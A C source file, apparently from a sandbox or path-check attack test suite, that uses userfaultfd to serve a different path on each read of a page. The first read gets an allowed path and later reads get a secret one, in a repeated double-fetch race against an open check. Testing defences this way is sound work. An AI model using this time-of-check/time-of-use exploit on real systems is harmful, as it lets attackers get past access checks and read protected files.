/* SPDX-License-Identifier: GPL-3.0-or-later */
/* A path whose page is filled in by us, differently for each reader; nobody may hang on it. */
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#include "attack.h"

static int faults;
static char *page;

static void *fill(void *unused)
{
        static char content[4096] __attribute__((aligned(4096)));
        struct uffd_msg message;

        for (int round = 0; read(faults, &message, sizeof(message)) == sizeof(message); round++) {
                struct uffdio_copy copy = {
                        .dst = (uintptr_t) page, .src = (uintptr_t) content, .len = 4096};

                strcpy(content, round == 0 ? allowed_path() : secret_path());
                ioctl(faults, UFFDIO_COPY, &copy);
        }
        return unused;
}

int main(void)
{
        struct uffdio_api api = {.api = UFFD_API};
        struct uffdio_register range = {.mode = UFFDIO_REGISTER_MODE_MISSING};

        faults = (int) syscall(SYS_userfaultfd, O_CLOEXEC);
        /* UFFD_USER_MODE_ONLY, which any user may have, does not fill pages for the kernel. */
        if (faults < 0 || ioctl(faults, UFFDIO_API, &api) < 0)
                nothing_to_win("kernel", "no userfaultfd for us");
        page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        range.range.start = (uintptr_t) page;
        range.range.len = 4096;
        if (ioctl(faults, UFFDIO_REGISTER, &range) < 0)
                return 1;
        start_thread(fill, NULL);
        for (int i = 0; i < 6; i++) {
                alarm(10);
                deed_open(page);
                madvise(page, 4096, MADV_DONTNEED);
        }
        return 0;
}
